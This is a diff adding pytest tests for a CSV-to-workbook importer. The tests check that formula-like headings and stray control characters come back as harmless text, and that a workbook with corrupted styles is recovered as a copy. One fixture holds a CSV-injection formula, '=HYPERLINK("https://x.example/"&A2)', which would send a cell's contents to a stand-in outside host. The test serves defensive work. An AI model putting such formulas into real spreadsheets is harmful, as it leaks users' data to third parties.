@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from typing import Any
 
@@ -10,6 +11,7 @@ from openpyxl import load_workbook
 from imports.annotating import SHEET, annotated
 from imports.checking import check_table
 from tests.imports.grants import HEADINGS, book_of, mapping, numbered, saved
+from tests.imports.sheets import changed
 
 
 def back(name: str, content: bytes, by: Any) -> Any:
@@ -57,3 +59,22 @@ def test_of_a_csv_a_workbook_comes_back() -> None:
     written = back("grants.csv", content, mapping(delimiter=";"))["Table"]
     assert "formula as text" in written["C2"].comment.text
     assert written["C2"].data_type == "s"
+
+
+def test_what_a_csv_holds_beside_its_rows_is_text_in_the_workbook_too() -> None:
+    """Given a heading that begins a formula and a sign that no workbook holds, then both come back as harmless text."""
+    headings = (*HEADINGS, '=HYPERLINK("https://x.example/"&A2)')
+    line = ["G-1", "Skills for rivers", "River\x07bend\ufffe", "US", *[""] * (len(headings) - 4)]
+    content = io.StringIO(newline="")
+    csv.writer(content, delimiter=";").writerows([headings, line])
+    written = back("grants.csv", content.getvalue().encode(), mapping(delimiter=";"))["Table"]
+    assert {cell.data_type for cell in written[1]} == {"s"}
+    assert (written["C2"].value, "U+0007" in written["C2"].comment.text) == ("River\ufffdbend\ufffd", True)
+
+
+def test_of_a_workbook_whose_forms_cannot_be_read_a_copy_of_its_cells_comes_back() -> None:
+    """Given a workbook with values that can be read and styles that cannot, then its faults stand in a copy of it."""
+    content = saved(book_of(numbered([{"Country": "UK"}])))
+    broken = changed(content, "xl/styles.xml", lambda styles: styles.replace(b'fontId="0"', b'fontId="x"'))
+    written = back("grants.xlsx", broken, mapping())["Table"]
+    assert (written["A2"].value, "write GB" in written["D2"].comment.text) == ("G-1", True)
